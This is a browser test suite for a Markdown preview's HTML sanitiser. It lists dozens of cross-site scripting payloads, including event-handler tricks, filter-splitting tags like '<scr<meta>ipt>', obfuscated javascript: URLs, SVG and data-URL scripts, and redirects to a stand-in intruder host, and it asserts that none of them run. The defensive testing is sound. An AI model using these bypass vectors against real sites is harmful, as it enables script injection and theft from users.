// Markdown that tries to run code, to leave its page or to load what is no picture, in a browser that would let
// it: scripts are on, and every name leads to a server of our own that answers everything and keeps a record.

import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { dirname, join } from 'node:path';
import { after, before, describe, test } from 'node:test';

import { file, launch, leave, open, pageFor } from './preview.mjs';

/** Pictures from elsewhere are part of a document; nothing else from elsewhere is. */
const pictures = 'http://pictures.test';
const intruder = 'http://intruder.test';

/** Leaves a mark, says something, opens a dialog. No space, no quotation mark, no bracket but round ones. */
const run = 'ran=1,console.log(1),alert(1)';

/** A drawing that runs code, within its own address. */
const drawn = `data:image/svg+xml;base64,${btoa(`<svg id="x" xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`)}`;

const dot = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');
const asked = new Set(); // the addresses of all that came over the network, since the last page was opened
const server = createServer((request, response) => {
    asked.add(request.url);
    const isPicture = request.url.startsWith(pictures);
    response.setHeader('Content-Type', isPicture ? 'image/gif' : 'text/html');
    response.end(isPicture ? dot : 'Hello.');
});
server.on('connect', (request, socket) => {
    asked.add(`https://${request.url}`);
    socket.end('HTTP/1.1 502 Bad Gateway\r\n\r\n');
});

let browser;
before(async () => {
    await new Promise((ready) => server.listen(0, '127.0.0.1', ready));
    browser = await launch();
});
after(async () => {
    await browser.close();
    server.close();
});

/** The page at `path` in a browser that would do everything, when it has had time to. */
async function opened(t, path) {
    asked.clear();
    const proxy = `http://127.0.0.1:${server.address().port}`;
    const page = await open(browser, path, { scripts: true, proxy });
    t.after(() => leave(page));
    await page.waitForTimeout(150);
    return page;
}

const preview = async (t, markdown) => opened(t, await pageFor(file('hostile.md', markdown)));

/** Sets off every handler, and follows every link that does not lead elsewhere by honest means. */
const provoke = (page) =>
    page.evaluate(async () => {
        const isHonest = (link) => /^https?:/.test(link.href?.baseVal ?? link.href ?? '');
        for (const element of document.querySelectorAll('body, body *')) {
            for (const { name } of [...element.attributes]) {
                if (name.startsWith('on')) element.dispatchEvent(new Event(name.slice(2), { bubbles: true }));
            }
            element.focus?.();
            if (element.localName === 'form') element.requestSubmit();
            if (element.matches('summary, a, area, math, math *') && !isHonest(element)) {
                element.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));
            }
        }
        await new Promise((done) => setTimeout(done, 50));
    });

/** What came over the network and is no picture. */
const loaded = () => [...asked].filter((url) => !url.startsWith(pictures));

/** What happened but a request that never became one: the browser announces those that it forbids as well. */
const happened = (page) => page.happenings.filter((what) => !/^request of (http|ftp)/.test(what));

async function assertInert(page) {
    assert.equal(await page.evaluate('globalThis.ran'), undefined, 'a script ran');
    assert.deepEqual(happened(page), []);
    assert.deepEqual(loaded(), [], 'more than pictures was loaded');
}

/** A hostile text as the name of its test. */
const named = (text) => JSON.stringify(text.replaceAll(run, '…')).slice(1, -1).slice(0, 80);

/** In a line and as a block. */
const inDocument = (html) => `In a line ${html.replaceAll('\n', ' ')} too.\n\n<div>\n${html}\n</div>\n\nThe end.\n`;

test('the tests notice what a page without protection does', async (t) => {
    const bare = (body) => file('bare.html', `<!DOCTYPE html><body>${body}</body>`);
    const script = await opened(t, bare(`<script>${run}</script>`));
    assert.equal(await script.evaluate('ran'), 1);
    assert.deepEqual(happened(script), ['console "1"', 'dialog "1"']);

    await opened(t, bare(`<link rel=stylesheet href=${intruder}/style.css><img src=${pictures}/picture>`));
    assert.deepEqual(loaded(), [`${intruder}/style.css`]);
    assert.ok(asked.has(`${pictures}/picture`));

    const link = await opened(t, bare(`<a href="javascript:${run}">a</a><p onclick=${run}>b</p>`));
    await provoke(link);
    assert.equal(happened(link).filter((what) => what === 'dialog "1"').length, 2);
});

const attributes = [
    `<img src=x onerror=${run}>`,
    `<img src=x OnErRoR=${run}>`,
    `<img src="x" onerror="${run}">`,
    `<img src='x' onerror='${run}'>`,
    `<img src="x"onerror=${run}>`,
    `<img src=x onerror = ${run}>`,
    `<img src=x\nonerror\n=\n${run}>`,
    `<img src=x\tonerror=\t"${run}">`,
    `<img src=x\fonerror=${run}>`,
    `<img/src=x/onerror=${run}>`,
    `<img src=x / onerror=${run}>`,
    `<img src=x onerror="${run}`,
    `<img src=x onerror=${run}`,
    `<img src=x title=">" onerror=${run}>`,
    `<img src=x onerror=&#97;lert(1)>`,
    `<img src=x onerror=\u00A0${run}>`,
    `<img alt="<img src=x onerror=${run}>">`,
    `<img src="gone.png" alt="<svg onload=${run}>">`,
    `<img src="gone.png" alt='"><svg/onload=${run}>'>`,
    `<img on<meta>error=${run} src=x>`,
    `<img o<script></script>nerror=${run} src=x>`,
    `<img  onx=1 onerror=${run} src=x>`,
    `<img src=x onx=" onerror=${run} "onerror=${run}>`,
    `<body onload=${run}>`,
    `<body onpageshow=${run}>`,
    `<svg onload=${run}>`,
    `<svg/onload=${run}>`,
    `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
    `<svg/><animate/onbegin=${run} attributeName=x dur=1s>`,
    `<details open ontoggle=${run}><summary>a</summary>b</details>`,
    `<details/open/ontoggle=${run}><summary>a</summary>b</details>`,
    `<a href=# autofocus onfocus=${run}>a</a>`,
    `<a/href=#/autofocus/onfocus=${run}>a</a>`,
    `<p tabindex=0 autofocus onfocus=${run}>a</p>`,
    `<input autofocus onfocus=${run}>`,
    `<dialog open onclose=${run}>a</dialog>`,
    `<div popover onbeforetoggle=${run}>a</div>`,
    `<video onerror=${run}><source src=x></video>`,
    `<video/onerror=${run} src=x></video>`,
    `<audio onerror=${run} src=x></audio>`,
    `<p style="animation: x 1s" onanimationstart=${run}>a</p>`,
    `<p onmouseover=${run} onclick=${run} onpointerenter=${run} onwheel=${run}>a</p>`,
    `<p/onclick=${run}/onmouseover=${run}>a</p>`,
    `<p title="a"onclick=${run}>a</p>`,
];

describe('an event attribute', () => {
    for (const html of attributes) {
        test(`does nothing: ${named(html)}`, async (t) => {
            const page = await preview(t, inDocument(html));
            await provoke(page);
            await assertInert(page);
        });
    }
});

const elements = [
    `<script>${run}</script>`,
    `<SCRIPT>${run}</SCRIPT >`,
    `<script src=${intruder}/script.js></script>`,
    `<script type=module>${run}</script>`,
    `<script${'\n'}>${run}</script>`,
    `<script>${run}`,
    `<script/x>${run}</script>`,
    `<scr<script></script>ipt>${run}</scr<script></script>ipt>`,
    `<scr<meta>ipt>${run}</scr<meta>ipt>`,
    `<scr<meta>ipt src=${intruder}/script.js></scr<meta>ipt>`,
    `<s<base>cript>${run}</s<base>cript>`,
    `<script\u0130>${run}</script>`,
    `<scr\u0130pt>${run}</scr\u0130pt>`,
    `<\u017Fcript>${run}</\u017Fcript>`,
    `<scr<meta>ipt type=speculationrules>{"prefetch":[{"source":"list","urls":["${intruder}/rules"]}]}</scr<meta>ipt>`,
    `<svg><script>${run}</script></svg>`,
    `<svg><script href="data:text/javascript,${run}"/></svg>`,
    `<svg><scr<meta>ipt href=${intruder}/script.js /></svg>`,
    `<math><mtext><script>${run}</script></mtext></math>`,
    `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
    `<template><script>${run}</script></template>`,
    `<style>@import url(${intruder}/import.css);</style>`,
    `<st<meta>yle>@import url(${intruder}/import.css);</st<meta>yle>`,
    `<st<meta>yle>@import "data:text/css,*{background:url(${intruder}/nested)}";</st<meta>yle>`,
    `<st<meta>yle>@font-face{font-family:x;src:url(${intruder}/font)}*{font-family:x!important}</st<meta>yle>`,
    `<st<meta>yle>*{cursor:url(${pictures}/cursor),auto;background:url(${pictures}/background)}</st<meta>yle>`,
    `<svg><style>@import url(${intruder}/import.css);</style></svg>`,
    `<p style="background: url(${pictures}/a); width: expression(${run}); behavior: url(${intruder}/b)">a</p>`,
    `<p style="clip-path: url(${pictures}/clip#x); mask: url(${pictures}/mask#x)">a</p>`,
    `<link rel=stylesheet href=${intruder}/style.css>`,
    `<li<meta>nk rel=stylesheet href=${intruder}/style.css>`,
    `<li<meta>nk rel=preload as=script href=${intruder}/preload>`,
    `<li<meta>nk rel=modulepreload href=${intruder}/module>`,
    `<li<meta>nk rel=manifest href=${intruder}/manifest>`,
    `<li<meta>nk rel=preconnect href=${intruder}>`,
    `<meta http-equiv=refresh content="0;url=${intruder}/refresh">`,
    `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
    `<me<meta>ta http-equiv=refresh content="0;url=javascript:${run}">`,
    `<me<meta>ta http-equiv=refresh content="0;url=data:text/html,Hello">`,
    `<base href=${intruder}/><img srcset=picture.png>`,
    `<iframe src=${intruder}/frame></iframe>`,
    `<iframe src="javascript:parent.${run}"></iframe>`,
    `<iframe srcdoc="<script>${run}</script>"></iframe>`,
    `<ifr<meta>ame src=${intruder}/frame></iframe>`,
    `<ifr<meta>ame src="java&#9;script:${run}"></iframe>`,
    `<ifr<meta>ame src="data:text/html,&lt;script&gt;${run}&lt;/script&gt;"></iframe>`,
    `<ifr<meta>ame srcdoc="&lt;script&gt;${run}&lt;/script&gt;&lt;svg onload=${run}&gt;"></iframe>`,
    `<ifr<meta>ame srcdoc="&lt;meta http-equiv=refresh content=0;url=${intruder}/inner&gt;"></iframe>`,
    `<ifr<meta>ame srcdoc="&lt;link rel=stylesheet href=${intruder}/inner.css&gt;"></iframe>`,
    `<frameset onload=${run}><frame src=${intruder}/frame></frameset>`,
    `<object data=${intruder}/object></object>`,
    `<obj<meta>ect data=${intruder}/object></object>`,
    `<obj<meta>ect type=text/html data="data:text/html,&lt;script&gt;${run}&lt;/script&gt;"></object>`,
    `<embed src=${intruder}/embed>`,
    `<emb<meta>ed src=${intruder}/embed>`,
    `<emb<meta>ed type=image/svg+xml src="${drawn}">`,
    `<form action=${intruder}/form><input name=a autofocus><button>b</button></form>`,
    `<form action="javascript:${run}"><input type=image src=${intruder}/input></form>`,
    `<button formaction="javascript:${run}">a</button>`,
    `<video src=${intruder}/video poster=${pictures}/poster autoplay></video>`,
    `<video autoplay><source src=${intruder}/source><track default src=${intruder}/track></video>`,
    `<audio src=${intruder}/audio autoplay></audio>`,
    `<picture><source srcset="${pictures}/a 1x, ${pictures}/b 2x"><img src=${pictures}/c></picture>`,
    `<img srcset="${pictures}/a 1x, ${pictures}/b 2x">`,
    `<img lowsrc=${intruder}/low dynsrc=${intruder}/dyn src=${pictures}/a>`,
    `<img src=${pictures}/a attributionsrc=${intruder}/attribution>`,
    `<table background=${pictures}/a><tr><td background=${pictures}/b>c</td></tr></table>`,
    `<svg><use href=${intruder}/use#a /></svg>`,
    `<svg><use xlink:href="${drawn}#x"/></svg>`,
    `<svg><image xlink:href=${pictures}/a /></svg>`,
    `<svg><foreignObject><iframe src=${intruder}/frame></iframe></foreignObject></svg>`,
    `<svg><set attributeName=href to="javascript:${run}" /></svg>`,
    `<bgsound src=${intruder}/sound>`,
    `<img src="file:///etc/passwd"><img srcset="file:///etc/passwd">`,
    `<img src="ftp://intruder.test/a">`,
    `<!--[if gte IE 4]><script>${run}</script><![endif]-->`,
    `<!-- --!><script>${run}</script> -->`,
    `<!--><script>${run}</script>-->`,
    `<![CDATA[><script>${run}</script>]]>`,
    `<?xml><script>${run}</script>?>`,
    `</article></body></html><script>${run}</script>`,
    `</title></style></textarea></script><script>${run}</script>`,
    `<xmp><p title="</xmp><script>${run}</script>"></xmp>`,
    `<plaintext><script>${run}</script>`,
];

describe('an element', () => {
    for (const html of elements) {
        test(`runs nothing and loads nothing but pictures: ${named(html)}`, async (t) => {
            const page = await preview(t, inDocument(html));
            await provoke(page);
            await assertInert(page);
        });
    }
});

// The filter of raw HTML rewrites text and cannot promise much; these come through it.
describe('what is left of a broken element', () => {
    for (const [what, markdown] of [
        ['a refresh without an end', `<div>\n<meta http-equiv=refresh content="0;url=${intruder}/a"\n\nThe end.\n`],
        ['a refresh around a removal', `<div>\n<me<meta>ta http-equiv=refresh content="0;url=${intruder}/a">\n`],
        ['a refresh of a file', '<div>\n<me<meta>ta http-equiv=refresh content="0;url=file:///etc/">\n'],
        ['a prefetch without an end', `<link rel=prefetch href="${intruder}/a"\n\nThe end.\n`],
        ['a prefetch around a removal', `<div>\n<li<meta>nk rel=prefetch href="${intruder}/a">\n`],
        ['a prefetch in a frame', `<ifr<meta>ame srcdoc="&lt;link rel=prefetch href=${intruder}/a&gt;">\n`],
        ['a base', `<div>\n<ba<meta>se href="${intruder}/">\n<img srcset=a.png>\n`],
    ]) {
        test(`leads nowhere: ${what}`, async (t) => {
            const page = await preview(t, markdown);
            const url = page.url();
            await page.waitForTimeout(300);
            await assertInert(page);
            assert.equal(page.url(), url);
        });
    }
});

const scripts = [
    `javascript:${run}`,
    `JaVaScRiPt:${run}`,
    `java\tscript:${run}`,
    `java\nscript:${run}`,
    `\u0001javascript:${run}`,
    `\u00A0javascript:${run}`,
    `javascript&#58;${run}`,
    `javascript&colon;${run}`,
    `&#106;avascript:${run}`,
    `&#x6A;avascript:${run}`,
    `&#0000106avascript:${run}`,
    `java&Tab;script:${run}`,
    `java&NewLine;script:${run}`,
    `java&#9;script:${run}`,
    `&#1;javascript:${run}`,
    `javascript://%0a${run}`,
    `javascript\\:${run}`,
    `view-source:javascript:${run}`,
    `vbscript:${run}`,
    `livescript:${run}`,
    `data:text/html,<script>${run}</script>`,
    `data:text/html;base64,${btoa(`<script>${run}</script>`)}`,
    drawn,
    `blob:${intruder}/a`,
    `filesystem:${intruder}/a`,
];

/** Every kind of link, to `url`. */
const linked = (url) => `[a](<${url}>) [b](${url} "b") ![c](<${url}>)

[a] [b][a] ![a] <${url}> and ${url} there

[a]: <${url}>

A <a href="${url}">a</a> <a href='${url}'>b</a> <a HREF = "${url}">c</a> <a/href="${url}">d</a>.

<div>
<a href="${url}">a</a> <a x href=${url.replaceAll(' ', '')}>b</a>
<a target=_blank href="${url}">c</a> <a target=x href="${url}">d</a>
</div>

<div>
<svg><a href="${url}"><text>a</text></a><a xlink:href="${url}"><text>b</text></a></svg>
<map name=m><area href="${url}" shape=default></map><math href="${url}"><mi href="${url}">c</mi></math>
<svg><a><set attributeName=href to="${url}"/><animate attributeName=href values="${url}"/><text>d</text></a></svg>
</div>
`;

describe('a link that is a script', () => {
    for (const url of scripts) {
        test(`runs nothing: ${named(url)}`, async (t) => {
            const page = await preview(t, linked(url));
            // What is no script to the browser is the name of a file. It stays here to follow all links.
            await page.route('file:///**', (route) => route.abort('aborted'));
            t.after(() => page.unroute('file:///**'));
            // Chromium shows an error instead of what is inside a data URL, and whoever asks the page then fails.
            await provoke(page).catch((error) => assert.match(error.message, /because of a navigation/));
            assert.deepEqual(happened(page).filter((what) => /^(dialog|console)/.test(what)), []);
            assert.deepEqual(loaded(), []);
        });
    }
});

describe('a picture of the document', () => {
    test('runs nothing and loads nothing when it is drawn by markup', async (t) => {
        const document = file('hostile.md', '![a](plan.svg)\n\n<img src="plan.svg">\n\n![b](page.html)\n');
        writeFileSync(
            join(dirname(document), 'plan.svg'),
            `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="${run}"><script>${run}</script>` +
                `<image href="${intruder}/image"/><style>@import url(${intruder}/style.css);</style></svg>`,
        );
        writeFileSync(join(dirname(document), 'page.html'), `<script>${run}</script>`);
        const page = await opened(t, await pageFor(document));
        await assertInert(page);
        assert.equal(await page.$eval('img', (image) => image.naturalWidth), 9);
    });
});

test('a front matter holds no markup', async (t) => {
    const page = await preview(t, `---\n<script>${run}</script>: <img src=x onerror=${run}>\na: <b>b</b>\n---\n`);
    await assertInert(page);
    assert.equal(await page.$$eval('.front-matter :not(tbody, tr, th, td)', (found) => found.length), 0);
});
